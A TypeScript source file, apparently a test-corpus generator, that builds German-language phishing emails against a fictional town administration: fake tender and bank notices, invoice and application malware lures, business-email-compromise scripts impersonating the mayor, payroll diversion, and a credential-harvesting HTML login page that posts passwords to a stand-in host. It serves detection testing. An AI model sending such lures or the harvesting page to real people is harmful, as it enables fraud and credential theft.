// The twenty-first unseen set's phishing: what attackers send to Stadt Aldenmoor's administration (see
// unseen-21-scene.ts). Fake e-procurement notices, contractors' bank changes, invoices carrying malware,
// citizens' complaints with poisoned attachments, the mayor impersonated from free mail, fake Sparkasse,
// DATEV, ELSTER and Microsoft 365 logins, fake BSI warnings, parcel lures, extortion and fake fines. Mostly
// German, some English; the Turkish and Ukrainian ones are in unseen-21-local.ts.
import type { SeededRandom } from './generate.js';
import { storedZip } from './mime.js';
import { diskImage, legacyMacroDocument, macroWorkbook, oneNote, qrJpeg, qrPng, zipOf } from './payloads.js';
import { LOCAL_PHISHING_21 } from './unseen-21-local.js';
import {
  addr,
  alnum,
  ascii,
  branded,
  CONTRACTORS,
  chance,
  digits,
  enAmount,
  esc,
  euro,
  FREEMAIL,
  germanName,
  hex,
  iban,
  int,
  KRZ,
  letter,
  MAYOR,
  ORG,
  PROJECTS,
  privateAddress,
  rcptOf,
  runTemplates,
  SCHOOLS,
  SPARKASSE,
  STREETS,
  staff,
  street,
  TENANT,
  type Template,
  token,
  when,
} from './unseen-21-scene.js';
import { onePagePdf, protectedZip } from './unseen-payloads.js';

const PDF = 'application/pdf';
const ZIP = 'application/zip';
const HTM = 'text/html';

function t(kind: string, name: string, make: Template['make']): Template {
  return { kind, name, make };
}

/** A contractor's domain as a lookalike registrant spells it. */
function lookalike(r: SeededRandom, domain: string): string {
  const [base, tld] = [domain.slice(0, domain.lastIndexOf('.')), domain.slice(domain.lastIndexOf('.') + 1)];
  return r.pick([
    `${base}-gmbh.${tld}`,
    `${base.replace(/s/, 'ss').replace(/ss+/, 'ss') === base ? `${base}s` : base.replace(/s/, 'ss')}.${tld}`,
    `${base}.${tld === 'de' ? 'com' : 'de'}`,
    `${base.replace('-', '')}.${tld}`,
    `${base}-rechnung.${tld}`,
  ]);
}

/** A credential page as an attachment: the brand, a pre-filled address, a form posting away. */
function loginPage(brand: string, email: string, post: string, colour = '#0067b8'): Buffer {
  return Buffer.from(`<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>${esc(brand)} - Anmeldung</title>
<style>body{font-family:Segoe UI,Arial;background:#f2f2f2}.box{width:380px;margin:80px auto;background:#fff;padding:36px;box-shadow:0 2px 6px rgba(0,0,0,.2)}input{width:100%;padding:8px;margin:8px 0}button{background:${colour};color:#fff;border:0;padding:10px 28px}</style></head>
<body><div class="box"><h2>${esc(brand)}</h2><p>Das Dokument ist geschützt. Bitte melden Sie sich an, um fortzufahren.</p>
<form id="f" method="POST" action="${esc(post)}"><input type="email" name="login" value="${esc(email)}" readonly>
<input type="password" name="passwd" placeholder="Kennwort" required><button type="submit">Anmelden</button></form></div>
<script>document.getElementById('f').addEventListener('submit',function(){document.querySelector('button').innerText='Bitte warten...';});</script>
</body></html>
`);
}

function docm(): Buffer {
  return storedZip(
    'word/vbaProject.bin',
    Buffer.from('\u00d0\u00cf\u0011\u00e0 Attribute VB_Name = "ThisDocument"'),
  );
}

const PHISHING: Template[] = [
  // ------------------------------------------------------------ e-procurement
  t('fake-tender-portal-notice', 'dtvp-projektraum-nachricht', (r) => {
    const dom = r.pick([
      'dtvp-projektraum.com',
      'dtvp-bekanntmachungen.de',
      'vergabeportal-dtvp.net',
      'dtvp.vergabe-service.test',
    ]);
    const ref = `${r.pick(['VgV', 'UVgO', 'VOB/A'])}-${int(r, 2024, 2026)}-${digits(r, 4)}`;
    const project = r.pick(PROJECTS);
    const p = staff(r, 'vergabe');
    const body = branded(
      {
        name: 'Deutsches Vergabeportal',
        color: '#003d7c',
        heading: 'Neue Nachricht in Ihrem Projektraum',
        footer: ['DTVP Deutsches Vergabeportal GmbH', 'Diese Nachricht wurde automatisch erzeugt.'],
      },
      [
        'Sehr geehrte Damen und Herren,',
        `im Vergabeverfahren ${ref} „${project}“ liegt eine neue Nachricht ${r.pick(['eines Bieters', 'zur Angebotsöffnung', 'mit geänderten Vergabeunterlagen'])} für Sie vor.`,
        `Bitte melden Sie sich zeitnah an, da die Angebotsfrist am ${when(r).de} endet.`,
        {
          button: 'Zum Projektraum',
          url: `https://${dom}/projektraum/login?vid=${ref.replace('/', '')}&u=${encodeURIComponent(p.email)}`,
        },
        'Mit freundlichen Grüßen\nIhr DTVP-Team',
      ],
    );
    return {
      from: addr('DTVP Vergabeportal', `noreply@${dom}`),
      to: rcptOf(p),
      subject: `Neue Nachricht im Vergabeverfahren ${ref}`,
      ...body,
      auth: r.pick(['pass', 'nodkim'] as const),
    };
  }),
  t('html-attachment-credential', 'evergabe-unterlagen-html', (r) => {
    const p = staff(r, r.pick(['vergabe', 'hochbau', 'tief'] as const));
    const dom = r.pick([
      'ausschreibung-niedersachsen.example',
      'evergabe-unterlagen.com',
      'vergabe-nds.test',
    ]);
    const ref = `${int(r, 24, 26)}-${digits(r, 5)}`;
    const b = letter([
      'Sehr geehrte Damen und Herren,',
      `im Auftrag des Landes stellen wir Ihnen die aktualisierten Vergabeunterlagen zum Verfahren ${ref} zur Verfügung. Aus Sicherheitsgründen ist das Dokument nur nach Anmeldung mit Ihrem Dienstkonto einsehbar.`,
      'Öffnen Sie die angehängte Datei in Ihrem Browser.',
      'Mit freundlichen Grüßen\nVergabestelle\nLandesamt für Bau und Liegenschaften',
    ]);
    return {
      from: addr('e-Vergabe Niedersachsen', `vergabestelle@${dom}`),
      to: rcptOf(p),
      subject: `Vergabeunterlagen ${ref} – Änderungsmitteilung`,
      text: b.text,
      parts: [
        {
          type: HTM,
          name: `Vergabeunterlagen_${ref}.html`,
          content: loginPage(
            'Microsoft Office 365',
            p.email,
            `https://${r.pick(['cdn-docs', 'secure-view'])}.${alnum(r, 7)}.test/next.php`,
          ),
        },
      ],
      auth: r.pick(['nodkim', 'pass', 'softfail'] as const),
    };
  }),
  t('bank-detail-change-lookalike', 'auftragnehmer-neue-bankverbindung', (r) => {
    const c = r.pick(CONTRACTORS);
    const dom = lookalike(r, c.domain);
    const [f, l] = germanName(r);
    const p = staff(r, 'kaemmerei');
    const newIban = iban(r);
    const bank = r.pick([
      'Commerzbank AG',
      'Deutsche Bank AG',
      'N26 Bank',
      'Volksbank Leer eG',
      'Revolut Bank UAB',
    ]);
    const b = letter([
      'Sehr geehrte Damen und Herren,',
      `wir möchten Ihnen mitteilen, dass sich die Bankverbindung der ${c.name} aufgrund einer ${r.pick(['Umstellung unseres Hausbankkontos', 'Fusion unserer Bank', 'internen Umstrukturierung'])} geändert hat.`,
      `Bitte verwenden Sie ab sofort für alle offenen und künftigen Zahlungen, insbesondere die ${r.pick(['3.', '4.', '5.'])} Abschlagsrechnung zum Bauvorhaben „${r.pick(PROJECTS)}“, ausschließlich die neue Verbindung:\n\nKontoinhaber: ${c.name}\nBank: ${bank}\nIBAN: ${newIban}`,
      'Die alte Kontoverbindung wird in Kürze aufgelöst, Zahlungen dorthin können nicht mehr zugeordnet werden. Das Schreiben mit Unterschrift der Geschäftsführung finden Sie im Anhang.',
      `Bitte bestätigen Sie kurz die Änderung per E-Mail. Telefonisch bin ich die nächsten Tage ${r.pick(['wegen Baustellenterminen', 'urlaubsbedingt', 'krankheitsbedingt'])} schlecht erreichbar.`,
      `Mit freundlichen Grüßen\n${f} ${l}\nBuchhaltung\n${c.name}`,
    ]);
    return {
      from: addr(`${f} ${l} | ${c.name}`, `${ascii(f).toLowerCase()}.${ascii(l).toLowerCase()}@${dom}`),
      to: rcptOf(p),
      subject: r.pick([
        'Änderung unserer Bankverbindung',
        'Neue Bankverbindung – bitte umgehend hinterlegen',
        `WG: Bankverbindung ${c.name}`,
      ]),
      ...(chance(r, 50) ? { text: b.text } : b),
      parts: [
        {
          type: PDF,
          name: 'Mitteilung_Bankverbindung.pdf',
          content: onePagePdf([
            c.name,
            `${c.city}, ${when(r).de}`,
            'Mitteilung über die Änderung der Bankverbindung',
            `Neue IBAN: ${newIban}`,
            bank,
            'Geschäftsführung',
          ]),
        },
      ],
      auth: 'pass',
    };
  }),
  t('reply-chain-hijack-archive', 'aw-abschlagsrechnung-zip-lnk', (r) => {
    const c = r.pick(CONTRACTORS);
    const p = staff(r, r.pick(['hochbau', 'tief', 'kaemmerei'] as const));
    const [f, l] = germanName(r);
    const project = r.pick(PROJECTS);
    const nr = `AR-${int(r, 2024, 2026)}-${digits(r, 3)}`;
    const pw = digits(r, 4);
    const d = when(r);
    const b = letter([
      `Hallo ${r.pick([`Frau ${p.last}`, `Herr ${p.last}`, p.first])},`,
      `anbei wie besprochen die korrigierte Rechnung und das Aufmaß. ${r.pick(['Passwort', 'Kennwort', 'PW'])} für das Archiv: ${pw}`,
      'Gruß',
      `${f} ${l}`,
      {
        quote: `Von: ${p.name} <${p.email}>\nGesendet: ${d.plus(-2)}\nAn: ${f} ${l}\nBetreff: Abschlagsrechnung ${nr} – ${project}\n\nSehr geehrter Herr ${l},\nin der Abschlagsrechnung ist die Position 04.02 doppelt aufgeführt. Bitte senden Sie uns eine korrigierte Fassung.\n\nMit freundlichen Grüßen\n${p.name}\n${p.dept.name}`,
      },
    ]);
    const mid = `${alnum(r, 10)}@${ORG}`;
    return {
      from: addr(`${f} ${l}`, `${ascii(f).toLowerCase()[0]}.${ascii(l).toLowerCase()}@${c.domain}`),
      to: rcptOf(p),
      subject: `AW: Abschlagsrechnung ${nr} – ${project}`,
      ...b,
      date: d.rfc,
      headers: [`In-Reply-To: <${mid}>`, `References: <${mid}>`, `Thread-Topic: Abschlagsrechnung ${nr}`],
      parts: [
        {
          type: ZIP,
          name: `Rechnung_${nr}.zip`,
          content: chance(r, 50)
            ? zipOf(`Rechnung_${nr}.pdf.lnk`)
            : protectedZip(`Rechnung_${nr}.pdf.lnk`, int(r, 1, 9999)),
        },
      ],
      relay: [`mail.${c.domain}`, `85.${int(r, 1, 250)}.${int(r, 1, 250)}.${int(r, 1, 250)}`],
      auth: 'pass',
    };
  }),
  t('fake-invoice-disk-image', 'rechnung-iso', (r) => {
    const dom = r.pick([
      'buerobedarf-nordwest.example',
      'office-partner24.test',
      'druck-und-papier.invalid',
      'kommunalbedarf-online.com',
    ]);
    const nr = `${int(r, 2024, 2026)}${digits(r, 5)}`;
    const ext = r.pick(['iso', 'img']);
    const b = letter([
      r.pick(['Guten Tag,', 'Sehr geehrte Damen und Herren,', 'Hallo,']),
      `anbei erhalten Sie die Rechnung Nr. ${nr} über ${euro(r, 180, 4800)} EUR. ${r.pick(['Zahlbar innerhalb von 7 Tagen.', 'Wir bitten um Ausgleich bis zum Monatsende.', 'Die Rechnung ist bereits überfällig'])}`,
      r.pick(['Mit freundlichen Grüßen\nBuchhaltung', 'MfG\nRechnungsstelle', 'Freundliche Grüße']),
    ]);
    return {
      from: addr(r.pick(['Rechnungsstelle', 'Buchhaltung', 'Kundenservice']), `rechnung@${dom}`),
      to: rcptOf(staff(r, r.pick(['kaemmerei', 'buerger', 'schule'] as const))),
      subject: r.pick([`Rechnung ${nr}`, `Ihre Rechnung Nr. ${nr}`, `Zahlungserinnerung Rechnung ${nr}`]),
      text: b.text,
      parts: [{ type: 'application/octet-stream', name: `Rechnung_${nr}.${ext}`, content: diskImage() }],
      auth: r.pick(['softfail', 'nodkim', 'neutral'] as const),
    };
  }),
  t('onenote-attachment', 'bautagebuch-onenote', (r) => {
    const c = r.pick(CONTRACTORS);
    const dom = lookalike(r, c.domain);
    const wk = int(r, 1, 52);
    const b = letter([
      'Guten Tag,',
      `anbei das Bautagebuch KW ${wk} und die Bedenkenanzeige zur ${r.pick(['Abdichtung', 'Statik', 'Leitungsführung'])}. Die Datei ist in OneNote erstellt. Zum Anzeigen bitte im Dokument auf „${r.pick(['Öffnen', 'Anzeigen', 'Open'])}“ doppelklicken.`,
      `Gruß\nBauleitung ${c.name}`,
    ]);
    return {
      from: addr(`Bauleitung ${c.name}`, `bauleitung@${dom}`),
      to: rcptOf(staff(r, r.pick(['hochbau', 'tief'] as const))),
      subject: `Bautagebuch KW ${wk} / Bedenkenanzeige`,
      ...b,
      parts: [
        {
          type: 'application/onenote',
          name: `Bautagebuch_KW${wk}.one`,
          content: oneNote(r.pick(['Open.hta', 'Anzeigen.wsf', 'Dokument.cmd'])),
        },
      ],
      auth: r.pick(['pass', 'nodkim'] as const),
    };
  }),
  t('macro-workbook', 'kostenaufstellung-xlsm', (r) => {
    const sup = r.pick(['Streusalz Weser-Ems', 'Nordsee Kommunaltechnik', 'Grünflächenservice Ems']);
    const dom = r.pick(['streusalz-weserems.example', 'kommunaltechnik-nord.test', 'gruenservice-ems.com']);
    const b = letter([
      'Sehr geehrte Damen und Herren,',
      `wie telefonisch angekündigt übersende ich Ihnen die Kostenaufstellung ${r.pick(['Winterdienst', 'Grünpflege', 'Streugut'])} ${int(r, 2024, 2026)}. Damit die Berechnung angezeigt wird, aktivieren Sie bitte in Excel die Bearbeitung und die Inhalte (Makros).`,
      `Mit freundlichen Grüßen\n${germanName(r).join(' ')}\n${sup}`,
    ]);
    return {
      from: addr(sup, `info@${dom}`),
      to: rcptOf(staff(r, 'tief')),
      subject: `Kostenaufstellung ${r.pick(['Winterdienst', 'Saison', 'Rahmenvertrag'])} – bitte prüfen`,
      ...b,
      parts: [
        {
          type: 'application/vnd.ms-excel.sheet.macroEnabled.12',
          name: `Kostenaufstellung_${digits(r, 4)}.xlsm`,
          content: macroWorkbook(),
        },
      ],
      auth: r.pick(['pass', 'softfail'] as const),
    };
  }),
  t('malicious-job-application', 'bewerbung-doc-makro', (r) => {
    const [f, l] = germanName(r);
    const job = r.pick([
      'Sachbearbeiter/in Bürgerbüro (m/w/d)',
      'Verwaltungsfachangestellte/r',
      'IT-Systemadministrator/in (m/w/d)',
      'Erzieher/in Kita Birkenallee',
    ]);
    const b = letter([
      'Sehr geehrte Damen und Herren,',
      `hiermit bewerbe ich mich auf Ihre Stellenausschreibung als ${job}. Meine Bewerbungsunterlagen (Anschreiben, Lebenslauf, Zeugnisse) finden Sie im Anhang.`,
      'Über eine Einladung zu einem Vorstellungsgespräch freue ich mich sehr.',
      `Mit freundlichen Grüßen\n${f} ${l}`,
    ]);
    return {
      from: addr(`${f} ${l}`, privateAddress(r, f, l)),
      to: rcptOf(staff(r, 'personal')),
      subject: `Bewerbung als ${job}`,
      text: b.text,
      parts: [
        chance(r, 50)
          ? { type: 'application/msword', name: `Bewerbung_${ascii(l)}.doc`, content: legacyMacroDocument() }
          : {
              type: ZIP,
              name: `Bewerbung_${ascii(f)}_${ascii(l)}.zip`,
              content: zipOf(`Lebenslauf_${ascii(l)}.pdf.exe`),
            },
      ],
      auth: r.pick(['pass', 'none'] as const),
    };
  }),
  // ------------------------------------------------------------ citizens
  t('citizen-complaint-protected-archive', 'beschwerde-baustelle-zip', (r) => {
    const [f, l] = germanName(r);
    const s = street(r);
    const pw = r.pick(['1234', '2025', 'Aldenmoor', digits(r, 4)]);
    const text = `${r.pick(['Sehr geehrte Damen und Herren', 'Hallo', 'Guten Tag'])},

ich ${r.pick(['beschwere mich hiermit zum dritten mal', 'wende mich jetzt an Sie weil keiner reagiert', 'muss mich leider wieder beschweren'])} wegen der Baustelle vor meinem Haus ${s}. Seit Wochen wird um 6 Uhr morgens gearbeitet, die Zufahrt ist versperrt und an meinem Auto ist ein Schaden entstanden!!

Die Fotos und Videos als Beweis hab ich in den Anhang gepackt, wegen Datenschutz mit Passwort: ${pw}

Ich erwarte eine Stellungnahme sonst schalte ich einen Anwalt und die Zeitung ein.

${f} ${l}
${s}, 26871 Aldenmoor
`;
    return {
      from: addr(`${f} ${l}`, privateAddress(r, f, l)),
      to: r.pick(['buergerbuero@corp.example', 'info@corp.example', rcptOf(staff(r, 'tief'))]),
      subject: r.pick([
        `Beschwerde Baustelle ${s}`,
        'Beschwerde!!!',
        `Schaden an meinem Fahrzeug – Baustelle ${s.split(' ')[0]}`,
      ]),
      text,
      parts: [
        {
          type: ZIP,
          name: `Fotos_${s.split(' ')[0].replace(/[^A-Za-z]/g, '')}.zip`,
          content: protectedZip(
            r.pick(['Fotos_Schaden.pdf.lnk', 'Video_Baustelle.scr', 'Beweise.js']),
            int(r, 1, 9999),
          ),
        },
      ],
      auth: r.pick(['pass', 'none'] as const),
    };
  }),
  t('citizen-complaint-link', 'schlagloecher-fotos-link', (r) => {
    const [f, l] = germanName(r);
    const s = r.pick(STREETS);
    const dom = r.pick(['onedrive-freigabe.com', 'bilder-teilen.example', 'cloud-fotos.test']);
    const b = letter([
      'Guten Tag,',
      `in der ${s} sind seit dem Winter mehrere tiefe Schlaglöcher, meine Tochter ist gestern mit dem Fahrrad gestürzt. Ich habe die Stellen fotografiert, die Bilder sind zu groß für die Mail, deshalb hier der Link:`,
      `[Fotos ansehen](https://${dom}/s/${token(r, 14)})`,
      'Bitte kümmern Sie sich darum bevor noch mehr passiert.',
      `Freundliche Grüße\n${f} ${l}`,
    ]);
    return {
      from: addr(`${f} ${l}`, privateAddress(r, f, l)),
      to: rcptOf(staff(r, r.pick(['tief', 'ordnung', 'buerger'] as const))),
      subject: r.pick([`Schlaglöcher ${s}`, `Gefahrenstelle ${s} – Fotos`, 'Straßenschaden melden']),
      ...b,
      auth: 'pass',
    };
  }),
  // ------------------------------------------------------------ mayor and colleagues
  t('bec-first-contact', 'buergermeisterin-sind-sie-am-platz', (r) => {
    const p = staff(r);
    const text = `${r.pick([`Hallo ${p.first},`, `Guten Morgen Frau/Herr ${p.last},`, `Hallo Herr ${p.last},`, 'Hallo,'])}
${r.pick(['sind Sie gerade am Platz?', 'haben Sie kurz Zeit? Ich brauche Ihre Hilfe bei einer vertraulichen Sache.', 'sind Sie verfügbar? Ich benötige eine schnelle Erledigung.', 'ich brauche dringend Ihre Unterstützung, bin aber in einer Sitzung und kann nicht telefonieren.'])}

${r.pick(['Katrin Vollmer', 'K. Vollmer', 'Vollmer\nBürgermeisterin'])}
${r.pick(['Von meinem iPhone gesendet', 'Gesendet von meinem Smartphone', ''])}
`;
    return {
      from: addr(
        MAYOR.name,
        r.pick([
          `buergermeisterin.vollmer${int(r, 1, 99)}@gmx.de`,
          `k.vollmer.rathaus@web.de`,
          `vollmer.katrin.bm@gmail.com`,
          `buero.buergermeisterin@outlook.de`,
        ]),
      ),
      to: rcptOf(p),
      subject: r.pick(['Anfrage', 'Kurze Frage', 'Dringend', 'Vertraulich', `${p.first}`]),
      text,
      auth: 'pass',
    };
  }),
  t('bec-gift-cards', 'buergermeisterin-gutscheine', (r) => {
    const p = staff(r, r.pick(['mayor', 'personal', 'presse', 'rat'] as const));
    const n = r.pick([5, 8, 10]);
    const v = r.pick([50, 100]);
    const card = r.pick(['Apple', 'Google Play', 'Amazon', 'Paysafecard']);
    const text = `Hallo ${p.first},

danke für die schnelle Rückmeldung. Ich möchte einigen ${r.pick(['Ehrenamtlichen', 'Mitarbeitenden des Bauhofs', 'Kolleginnen und Kollegen'])} als Dankeschön eine kleine Überraschung machen, das soll aber bis zur ${r.pick(['Ehrenamtsfeier', 'Personalversammlung', 'Weihnachtsfeier'])} geheim bleiben.

Bitte besorgen Sie ${n} ${card}-Gutscheinkarten zu je ${v} Euro, z.B. bei Rossmann, Edeka oder an der Tankstelle. Rubbeln Sie die Codes frei und schicken Sie mir Fotos der Rückseiten hier per Mail. Sie bekommen das Geld selbstverständlich heute noch aus der Handkasse zurück.

Ich bin den ganzen Tag in Terminen, bitte nur per Mail.

Katrin Vollmer
Bürgermeisterin
`;
    return {
      from: addr(
        r.pick(['Katrin Vollmer', 'Bürgermeisterin Vollmer', 'Vollmer Katrin']),
        r.pick([
          `bm.vollmer@web.de`,
          `katrin.vollmer.${int(r, 10, 99)}@gmx.net`,
          'buergermeisterin.aldenmoor@gmail.com',
        ]),
      ),
      to: rcptOf(p),
      subject: r.pick(['Re: Anfrage', 'AW: Kurze Frage', 'Überraschung']),
      text,
      auth: 'pass',
    };
  }),
  t('bec-wire-transfer', 'vertrauliche-ueberweisung-grundstueck', (r) => {
    const p = staff(r, 'kaemmerei');
    const dom = r.pick([
      'aldenmoor-rathaus.de',
      'stadt-aldenmoor.com',
      'buergermeisterin-aldenmoor.de',
      'corp-example.net',
    ]);
    const amt = euro(r, 18000, 96000);
    const b = letter([
      `Guten Tag ${r.pick([`Herr ${p.last}`, `Frau ${p.last}`])},`,
      `wie im Verwaltungsausschuss nicht-öffentlich besprochen, steht der Ankauf der Fläche ${r.pick(['am Gewerbegebiet Nord', 'an der Fehnstraße', 'für den Kita-Neubau'])} kurz vor dem Abschluss. Der Notar benötigt heute noch die Anzahlung von ${amt} EUR, sonst tritt der Verkäufer zurück.`,
      `Bitte veranlassen Sie die Eilüberweisung an:\nEmpfänger: ${r.pick(['Notariat Dr. Behrens', 'Treuhandkonto RA Hollmann & Partner', 'Kanzlei Feldkamp Notare'])}\nIBAN: ${iban(r, r.pick(['DE', 'LT', 'PT']))}\nVerwendungszweck: ${r.pick(['Anzahlung Flurstück', 'Treuhand'])} ${int(r, 10, 400)}/${int(r, 1, 9)}`,
      'Die Sache ist bis zur Ratssitzung streng vertraulich. Bitte sprechen Sie nicht mit Kollegen darüber, auch nicht mit dem Kämmerer. Die Unterlagen reiche ich nach. Bestätigen Sie mir die Ausführung bitte per Mail.',
      `Mit freundlichen Grüßen\nKatrin Vollmer\nBürgermeisterin der Stadt ${'Aldenmoor'}`,
    ]);
    return {
      from: addr('Katrin Vollmer', `k.vollmer@${dom}`),
      replyTo: chance(r, 50) ? addr('Katrin Vollmer', `katrin.vollmer.buero@${r.pick(FREEMAIL)}`) : undefined,
      to: rcptOf(p),
      subject: r.pick([
        'Eilüberweisung – vertraulich',
        'Dringende Zahlung heute',
        'Grundstücksankauf / Anzahlung',
      ]),
      ...(chance(r, 50) ? { text: b.text } : b),
      auth: r.pick(['pass', 'nodkim'] as const),
    };
  }),
  t('payroll-diversion', 'gehaltskonto-aendern', (r) => {
    const emp = staff(r);
    const p = staff(r, 'personal');
    const text = `${r.pick(['Hallo', 'Guten Tag', 'Liebe Kolleginnen und Kollegen'])}${r.pick([` ${p.first}`, ''])},

ich habe ${r.pick(['meine Bank gewechselt', 'ein neues Girokonto eröffnet', 'mein Konto bei der Sparkasse gekündigt'])}. Könnten Sie meine Bezüge ab der nächsten Abrechnung bitte auf das neue Konto überweisen?

Kontoinhaber: ${emp.name}
IBAN: ${iban(r)}
Bank: ${r.pick(['N26', 'C24 Bank', 'Vivid Money', 'bunq'])}

Ich schreibe von meiner privaten Adresse, da ich ${r.pick(['im Homeoffice bin und der VPN nicht geht', 'gerade krankgeschrieben bin', 'unterwegs bin'])}. Bitte geben Sie mir kurz Bescheid, ab wann die Änderung gilt.

Danke und Gruß
${emp.name}
${emp.dept.name}
`;
    return {
      from: addr(emp.name, privateAddress(r, emp.first, emp.last)),
      to: rcptOf(p),
      subject: r.pick(['Änderung Bankverbindung', 'Neue Kontoverbindung für Gehalt', 'Kontoänderung']),
      text,
      auth: 'pass',
    };
  }),
  t('bec-phone-number-request', 'buergermeisterin-handynummer', (r) => {
    const p = staff(r);
    const text = `${r.pick([`Hallo ${p.first}`, `Hallo Frau ${p.last}`, `Hallo Herr ${p.last}`])},
${r.pick(['schicken Sie mir bitte Ihre Handynummer, ich brauche Sie kurz per WhatsApp für eine dringende Aufgabe.', 'bitte senden Sie mir Ihre aktuelle Mobilnummer. Ich erkläre Ihnen alles per WhatsApp.', 'ich brauche Ihre private Handynummer, mein Diensthandy hat die Kontakte verloren.'])}

${r.pick(['Gruß K. Vollmer', 'Katrin Vollmer', 'Vollmer'])}
`;
    return {
      from: addr(
        r.pick(['Katrin Vollmer', 'Bürgermeisterin']),
        r.pick([
          `buergermeisterin.vollmer@gmail.com`,
          `vollmer.k.${int(r, 1, 99)}@gmx.de`,
          'rathaus.aldenmoor@outlook.de',
        ]),
      ),
      to: rcptOf(p),
      subject: r.pick(['WhatsApp', 'Handynummer', 'Bitte um Rückmeldung', '']),
      text,
      auth: 'pass',
    };
  }),
  t('bec-lookalike-internal-domain', 'kaemmerer-rechnung-eilig', (r) => {
    const p = staff(r, 'kaemmerei');
    const boss = staff(r, 'kaemmerei');
    const dom = r.pick(['corp-example.de', 'c0rp.example', 'corp.example.de', 'corpexample.net']);
    const c = r.pick([
      'Ingenieurbüro Lüpkes',
      'Planungsgruppe Ems',
      'Rechtsanwälte Dirks & Kollegen',
      'GIS-Service Nordwest',
    ]);
    const amt = euro(r, 4800, 39000);
    const b = letter([
      `Hallo ${p.first},`,
      `bitte die angehängte Rechnung von ${c} über ${amt} EUR heute noch anweisen, die sachliche Richtigkeit habe ich bereits geprüft. Die Haushaltsstelle ist ${digits(r, 5)}.${digits(r, 6)}.`,
      'Die Zahlung ist sehr dringend, wir haben die Skontofrist schon überschritten und der Auftragnehmer droht mit Leistungsstopp.',
      `Danke dir!\n${boss.name}\n${boss.dept.name}`,
    ]);
    return {
      from: addr(boss.name, `${boss.email.split('@')[0]}@${dom}`),
      to: rcptOf(p),
      subject: r.pick([`Rechnung ${c} – bitte heute anweisen`, 'Eilt: Zahlungsanweisung', 'Bitte zahlen']),
      ...b,
      parts: [
        {
          type: PDF,
          name: `RE_${digits(r, 6)}.pdf`,
          content: onePagePdf([c, 'RECHNUNG', `Betrag: ${amt} EUR`, `IBAN ${iban(r)}`]),
        },
      ],
      auth: r.pick(['pass', 'nodkim'] as const),
    };
  }),
  // ------------------------------------------------------------ banks, tax, DATEV
  t('bank-credential-pushtan', 'sparkasse-pushtan-neuregistrierung', (r) => {
    const dom = r.pick([
      'sparkasse-pushtan.info',
      's-pushtan-verifizierung.com',
      'sparkasse-kundenservice.test',
      'spk-sicherheit.de.example',
    ]);
    const d = when(r);
    const body = branded(
      {
        name: 'Sparkasse',
        color: '#ff0000',
        heading: r.pick([
          'Ihr pushTAN-Verfahren muss aktualisiert werden',
          'Wichtige Sicherheitsmitteilung',
          'Neuregistrierung S-pushTAN erforderlich',
        ]),
        footer: [
          'Sparkasse · Finanzgruppe',
          'Bitte antworten Sie nicht auf diese automatisch erstellte E-Mail.',
        ],
      },
      [
        'Sehr geehrte Kundin, sehr geehrter Kunde,',
        `aufgrund der neuen EU-Zahlungsdiensterichtlinie (PSD2) muss Ihr pushTAN-Verfahren bis zum ${d.plus(5)} neu registriert werden. Andernfalls wird der Zugang zu Ihrem Online-Banking aus Sicherheitsgründen gesperrt.`,
        'Die Neuregistrierung dauert nur wenige Minuten.',
        { button: 'Jetzt neu registrieren', url: `https://${dom}/de/home/pushtan.html?id=${token(r, 20)}` },
        'Mit freundlichen Grüßen\nIhre Sparkasse',
      ],
    );
    return {
      from: addr('Sparkasse', r.pick([`info@${dom}`, `service@${dom}`, `noreply@${dom}`])),
      to: rcptOf(staff(r, r.pick(['kaemmerei', 'steuer'] as const))),
      subject: r.pick([
        'Ihr pushTAN-Verfahren: Aktualisierung erforderlich',
        'Sparkasse: Wichtige Mitteilung zu Ihrem Konto',
        'Letzte Erinnerung: S-pushTAN',
      ]),
      ...(chance(r, 40) ? { html: body.html } : body),
      auth: r.pick(['pass', 'nodkim', 'softfail'] as const),
    };
  }),
  t('quishing-pdf', 'sparkasse-schreiben-qr', async (r) => {
    const dom = r.pick(['sparkasse-legitimation.com', 'spk-qr-login.test', 's-id-check.example']);
    const url = `https://${dom}/qr/${token(r, 12)}`;
    const pdf = onePagePdf(
      [
        SPARKASSE.name,
        'Wichtige Information zu Ihrem Firmenkundenkonto',
        'Bitte bestaetigen Sie Ihre Legitimation bis zum Monatsende.',
        'Scannen Sie dazu den QR-Code mit Ihrem Smartphone.',
      ],
      { jpeg: await qrJpeg(url) },
    );
    const b = letter([
      'Sehr geehrte Damen und Herren,',
      'im Anhang erhalten Sie ein wichtiges Schreiben zu Ihrem Konto. Bitte lesen Sie es vollständig und folgen Sie den Anweisungen.',
      `Mit freundlichen Grüßen\n${SPARKASSE.name}\nFirmenkundenbetreuung`,
    ]);
    return {
      from: addr(SPARKASSE.name, `firmenkunden@${SPARKASSE.domain}`),
      envelope: r.pick(['vps-mailer.test', 'smtp-relay.invalid', 'mail-out.example']),
      to: rcptOf(staff(r, 'kaemmerei')),
      subject: r.pick([
        'Wichtiges Schreiben zu Ihrem Konto',
        'Legitimationsprüfung Firmenkonto',
        'Ihre Mitteilung der Sparkasse',
      ]),
      text: b.text,
      parts: [{ type: PDF, name: `Schreiben_${digits(r, 8)}.pdf`, content: pdf }],
      auth: 'spoof',
      dmarcPolicy: 'reject',
    };
  }),
  t('datev-credential', 'datev-smartlogin-ablauf', (r) => {
    const dom = r.pick([
      'datev-smartlogin.example',
      'datev-zertifikat.com',
      'mein-datev.test',
      'datev-kundenportal.net',
    ]);
    const body = branded(
      {
        name: 'DATEV',
        color: '#00853f',
        heading: 'Ihr DATEV SmartLogin läuft ab',
        footer: [
          'DATEV eG, Paumgartnerstr. 6-14, 90429 Nürnberg',
          'Dies ist eine automatisch generierte Nachricht.',
        ],
      },
      [
        'Sehr geehrte DATEV-Anwenderin, sehr geehrter DATEV-Anwender,',
        `das Zertifikat Ihres SmartLogin bzw. Ihrer SmartCard läuft am ${when(r).de} ab. Um weiterhin Zugriff auf DATEV Unternehmen online und Arbeitnehmer online zu haben, verlängern Sie bitte das Zertifikat.`,
        { button: 'Zertifikat verlängern', url: `https://${dom}/smartlogin/verlaengern?k=${digits(r, 7)}` },
        'Ohne Verlängerung können Belege und Lohnabrechnungen nicht mehr übermittelt werden.',
      ],
    );
    return {
      from: addr('DATEV eG', `service@${dom}`),
      to: rcptOf(staff(r, r.pick(['personal', 'kaemmerei'] as const))),
      subject: r.pick([
        'DATEV SmartLogin: Zertifikat läuft ab',
        'Aktion erforderlich: DATEV-Zugang verlängern',
      ]),
      ...body,
      auth: r.pick(['pass', 'nodkim'] as const),
    };
  }),
  t('tax-refund-lure', 'elster-erstattung', (r) => {
    const dom = r.pick([
